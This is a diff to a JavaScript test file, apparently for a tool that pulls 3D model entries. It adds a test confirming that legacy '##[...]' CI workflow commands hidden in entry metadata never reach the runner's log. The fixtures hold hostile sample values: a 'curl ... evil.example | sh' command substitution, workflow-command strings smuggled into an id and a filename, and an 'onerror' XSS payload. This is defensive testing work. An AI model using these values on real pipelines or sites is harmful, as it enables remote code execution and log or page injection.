@@ -33,8 +33,11 @@ const INJECTED = [
   '::stop-commands::injected'
 ]
 
+const LEGACY = '##[set-output name=changed;]$(curl -s https://evil.example/x|sh)'
+
 const emulator = sharedEmulator({
   entries: [
+    { id: `legacy ${LEGACY}`, filename: 'm ##[add-mask]glb.glb', tags: ['legacy'], derived: [] },
     {
       id: `evil\n${INJECTED[0]}-entry`,
       filename: `model.glb\n${INJECTED[1]}-extension<img src=x onerror=alert(1)>`,
@@ -60,6 +63,16 @@ describe('workflow commands hidden in metadata and in the lockfile', () => {
     expect(injectedCommands(result)).toEqual([])
     expect(result.summary).toContain('&lt;img src=x onerror=alert(1)&gt;')
     expect(result.summary).not.toContain('<img')
+  })
+
+  it("never reach the log in the runner's older ##[command] form, which counts anywhere in a line", async () => {
+    const result = await pull(emulator(), { tags: 'legacy', formats: 'original' })
+    expect(log(result)).toContain('set-output name=changed')
+    expect(
+      log(result)
+        .split('\n')
+        .filter(line => line.includes('##['))
+    ).toEqual([])
   })
 
   it('never start a line of the log: paths in a lockfile', async () => {
